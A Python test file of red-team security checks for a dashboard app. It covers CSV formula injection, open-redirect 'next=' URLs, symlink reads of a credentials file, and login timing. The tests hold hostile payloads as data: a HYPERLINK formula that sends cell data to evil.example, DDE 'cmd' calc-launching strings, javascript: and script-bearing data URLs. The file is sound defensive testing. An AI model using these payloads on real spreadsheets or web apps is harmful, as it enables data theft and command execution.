"""Red-team attacks on the dashboards that the other suites do not make: a table downloaded
as CSV whose cells a spreadsheet would run as formulas, and more ``next=`` spellings that
browsers follow off site."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from twinlab.apps.guard import same_site
from twinlab.apps.takeaways import to_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_downloaded_table_runs_no_formula_in_a_spreadsheet():
    """A text cell (an arm's or a setting's name, a label) starting with ``= + - @`` or a
    tab is run by Excel / LibreOffice when the CSV is opened: each is made text with a
    leading ``'``; numbers, negative ones included, are kept as numbers."""
    table = pd.DataFrame(
        {
            "arm": FORMULAS,
            "dose": [-1.5, 0.0, 2.0, 3.0, 4.0, 5.0],
            "label": ["-0.25", "A", "b-c", "", None, "x=1"],
        }
    )
    table[FORMULAS[0]] = 1  # a column name is a cell too
    back = pd.read_csv(io.StringIO(to_csv(table).read()), keep_default_na=False, dtype=str)
    for cell in [*back["arm"], *back.columns]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert list(back["arm"]) == ["'" + f for f in FORMULAS]
    assert list(back["dose"]) == ["-1.5", "0.0", "2.0", "3.0", "4.0", "5.0"]
    assert list(back["label"]) == ["-0.25", "A", "b-c", "", "", "x=1"]


@pytest.mark.parametrize(
    "next_url",
    ["//evil.example", "/\\evil.example", "https://evil.example", "https:evil.example",
     "javascript:alert(1)", "\\\\evil.example", " //evil.example", "/\x00//evil.example",
     "/\n/evil.example", "/\x7f/evil.example", "http:/evil.example", "evil.example",
     "/\\/evil.example", "//\\evil.example", "data:text/html,<script>alert(1)</script>", ""],
)  # fmt: skip
def test_no_spelling_of_another_site_passes_as_a_next_page(next_url):
    assert not same_site(next_url)


@pytest.mark.parametrize("next_url", ["/", "/cohort", "/whatif?dose=5&arm=A", "/reports/a.html"])
def test_same_site_pages_pass_as_a_next_page(next_url):
    assert same_site(next_url)


def test_a_report_that_links_out_of_the_reports_folder_is_not_served(server, project, credentials):
    """``/reports/<name>.html`` names a file under ``<project>/reports``; a symbolic link
    placed there (by anyone who may write to a group-shared project) pointed the server at
    any file it may read, such as its users' password hashes. Only a regular file inside the
    reports folder is served (a real ``twinlab serve``)."""
    import os

    from apps_fixtures import USERS
    from apps_server import fetch, http_login

    url = server["url"]
    rita, _ = http_login(url, "rita", USERS["rita"][1])
    links = {
        "users.html": credentials,
        "up.html": project / "reports" / ".." / "params.yaml",
        "dangling.html": project / "nowhere.html",
    }
    for name, target in links.items():
        os.symlink(target, project / "reports" / name)
    try:
        for name in links:
            code, _, body = fetch(f"{url}/reports/{name}", rita)
            assert code == 404, (name, code)
            assert "password_hash" not in body and "scrypt" not in body
        assert fetch(url + "/reports/03_fit_report.html", rita)[0] == 200
    finally:
        for name in links:
            (project / "reports" / name).unlink()


def test_a_report_linked_into_the_projects_dvc_cache_is_still_served(server, project):
    """DVC's ``cache.type = symlink`` leaves reports as links into ``.dvc/cache``: served."""
    import os

    from apps_fixtures import USERS
    from apps_server import fetch, http_login

    cache = project / ".dvc" / "cache" / "files" / "md5" / "ab"
    cache.mkdir(parents=True, exist_ok=True)
    (cache / "cdef").write_text("<html><body>Cached report</body></html>")
    os.symlink(cache / "cdef", project / "reports" / "cached.html")
    try:
        rita, _ = http_login(server["url"], "rita", USERS["rita"][1])
        code, _, body = fetch(server["url"] + "/reports/cached.html", rita)
        assert code == 200 and "Cached report" in body
    finally:
        (project / "reports" / "cached.html").unlink()


def test_a_login_costs_one_hash_whether_the_user_exists_or_not(tmp_path, monkeypatch):
    """An unknown user's login was refused after *two* scrypt runs (the decoy hash was
    made afresh, then verified), a known user's after one: the login form's timing told
    which user names exist. Each costs one now."""
    import hashlib

    from twinlab.apps.auth import add_user, authenticate

    users = tmp_path / "users.json"
    add_user(users, "ana", "modeler", "ana-password-1")
    add_user(users, "oscar", "modeler", None)  # an OAuth user: no password
    authenticate("nobody", "warm-up", users)  # a decoy made once per process may be made now
    calls = []
    real = hashlib.scrypt
    monkeypatch.setattr(hashlib, "scrypt", lambda *a, **k: calls.append(1) or real(*a, **k))
    counts = {}
    for name, password in [("ana", "wrong-password"), ("ana", "ana-password-1"),
                           ("nobody", "wrong-password"), ("oscar", "any-password")]:  # fmt: skip
        calls.clear()
        authenticate(name, password, users)
        counts[name, password] = len(calls)
    assert set(counts.values()) == {1}, counts
